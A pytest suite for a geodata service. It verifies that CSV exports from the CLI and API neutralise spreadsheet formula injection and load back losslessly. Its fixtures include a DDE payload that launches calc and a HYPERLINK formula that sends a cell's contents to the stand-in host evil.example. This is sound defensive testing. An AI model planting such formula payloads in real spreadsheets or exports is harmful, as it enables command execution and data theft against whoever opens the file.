"""CSV exports neutralise spreadsheet formulas (OWASP "CSV injection") and `geoservice load` reverses the rule.

Rule (geoservice/csvcells.py): a text cell that starts with ``=``, ``+``, ``-``, ``@``, tab, CR or ``'`` is
written with one leading ``'``; the CSV loader removes one leading ``'`` from every text cell. lon/lat are
numbers and never touched. Checked for the CLI export and the API download, on both stores, and back.
"""
from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from geoservice import create_app
from geoservice.csvcells import FORMULA_PREFIXES, from_csv_cell, to_csv_cell
from geoservice.exports import CSV_COLUMNS, csv_row
from geoservice.model import Site, SiteFilter
from geoservice.services import Services
from geoservice.settings import Settings

from .conftest import FreshTarget, cli_env, run_cli

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
# Each hostile value as an operator could store it (the loader and the operators' API strip whitespace, so
# stored text never starts with a tab or CR; those two are covered by the unit tests below).
HOSTILE = [
    ("=cmd|' /C calc'!A0", "warm_station", 116.40350, 39.93750, {
        "name_zh": '=HYPERLINK("http://evil.example/?x="&A1,"点击领取补贴")',
        "name_en": "+SUM(1,2)", "address": "-2+3+cmd|' /C calc'!A0", "operator": "@SUM(A1:A9)",
        "phone": "+86 10 6512 3456", "notes": "'quoted already: the rule must stay a bijection",
        "opening_hours": "24/7", "amenities": ["wifi"]}),
    ("-neg-id", "mother_baby_room", 116.45950, 39.90870, {
        "name_zh": "''两个撇号", "name_en": "-", "notes": "=1+1\n@second line", "opening_hours": "Mo-Su 10:00-22:00",
        "amenities": ["sink"]}),
    ("plain", "worker_home", 116.65640, 39.90970, {
        "name_zh": "通州运河商务区职工之家", "notes": "a = b, not a formula; 'quotes' inside", "phone": "010-6255-0000",
        "opening_hours": "24/7"}),
]
COMPARED = ("id", "source_id", "kind", "name_zh", "name_en", "address", "district_adcode", "opening_hours",
            "operator", "phone", "notes", "simulated")


def _fill(store: Services, tmp_path: Path) -> dict[str, Site]:
    """Load HOSTILE through the ordinary GeoJSON loader (which keeps every character as given)."""
    features = [{"type": "Feature", "id": sid, "geometry": {"type": "Point", "coordinates": [lon, lat]},
                 "properties": {"kind": kind, **props}} for sid, kind, lon, lat, props in HOSTILE]
    path = tmp_path / "hostile.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}, ensure_ascii=False),
                    encoding="utf-8")
    result = run_cli(cli_env(store), "load", str(path))
    assert result.exit_code == 0, result.output
    sites, total = store.sites.list_sites(SiteFilter(limit=100))
    assert total == len(HOSTILE)
    by_source = {s.source_id: s for s in sites}
    assert by_source["=cmd|' /C calc'!A0"].name_zh.startswith("=")  # stored verbatim, hostile as intended
    return by_source


def _check_neutralised(text: str, originals: dict[str, Site]) -> None:
    """No cell of the CSV can start a formula, and each escaped cell is exactly ' + the stored value."""
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS and len(rows) == len(originals)
    for row in rows:
        for column, cell in row.items():
            if column in ("lon", "lat"):
                float(cell)  # a plain number, untouched
                continue
            assert not cell.startswith(DANGEROUS), (column, cell)
        site = originals[from_csv_cell(row["source_id"])]
        for column in ("source_id", "name_zh", "name_en", "address", "operator", "phone", "notes"):
            stored = getattr(site, column) or ""
            expected = "'" + stored if stored.startswith(("=", "+", "-", "@", "'")) else stored
            assert row[column] == expected, (column, row[column], stored)
    hostile = next(r for r in rows if r["source_id"] == "'=cmd|' /C calc'!A0")
    assert hostile["phone"] == "'+86 10 6512 3456"  # Excel shows it as the text +86 10 6512 3456
    assert next(r for r in rows if r["source_id"] == "plain")["phone"] == "010-6255-0000"


def _check_loads_back(path: Path, target: FreshTarget, originals: dict[str, Site]) -> None:
    loaded = run_cli(target.env, "load", str(path))
    assert loaded.exit_code == 0, loaded.output
    assert f"{len(HOSTILE)} inserted" in loaded.output
    back = {s.source_id: s for s in target.open().sites.list_sites(SiteFilter(limit=100))[0]}
    assert set(back) == set(originals)
    for source_id, site in originals.items():
        for name in COMPARED:
            assert getattr(back[source_id], name) == getattr(site, name), (name, source_id)
        assert back[source_id].amenities == site.amenities
    again = run_cli(target.env, "load", str(path))
    assert again.exit_code == 0 and f"0 inserted, 0 updated, {len(HOSTILE)} unchanged" in again.output


def test_cli_csv_export_neutralises_formulas_and_loads_back(store: Services, fresh_target: FreshTarget,
                                                            tmp_path: Path) -> None:
    originals = _fill(store, tmp_path)
    out = tmp_path / "hostile.csv"
    exported = run_cli(cli_env(store), "export", "-o", str(out), "--bom")
    assert exported.exit_code == 0, exported.output
    _check_neutralised(out.read_text(encoding="utf-8"), originals)
    _check_loads_back(out, fresh_target, originals)


def test_api_csv_download_neutralises_formulas_and_loads_back(store: Services, fresh_target: FreshTarget,
                                                              tmp_path: Path) -> None:
    originals = _fill(store, tmp_path)
    app = create_app(Settings(embedded_path=tmp_path / "unused.sqlite"), services=store, prepare=False)
    resp = app.test_client().get("/api/v1/sites.csv?bom=true")
    body = resp.get_data()
    resp.close()
    assert resp.status_code == 200 and body.startswith(b"\xef\xbb\xbf")
    _check_neutralised(body.decode("utf-8"), originals)
    path = tmp_path / "download.csv"
    path.write_bytes(body)
    _check_loads_back(path, fresh_target, originals)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'", "'x", "''x", "=", "",
                                   "a=1", " =1", "普通", "x'", "\n=1"])
def test_the_cell_rule_is_a_bijection(value: str) -> None:
    cell = to_csv_cell(value)
    assert not cell.startswith(DANGEROUS)
    assert from_csv_cell(cell) == value
    assert (cell == "'" + value) == value.startswith(FORMULA_PREFIXES)


def test_numeric_columns_are_never_prefixed() -> None:
    site = Site(id="s1", source_id="-1", kind="warm_station", name_zh="=x", lon=-0.5, lat=-1.25,
                opening_hours="24/7", amenities=[])
    row = dict(zip(CSV_COLUMNS, csv_row(site, -0.5, -1.25, "wgs84")))
    assert row["lon"] == "-0.50000000" and row["lat"] == "-1.25000000"
    assert row["source_id"] == "'-1" and row["name_zh"] == "'=x"
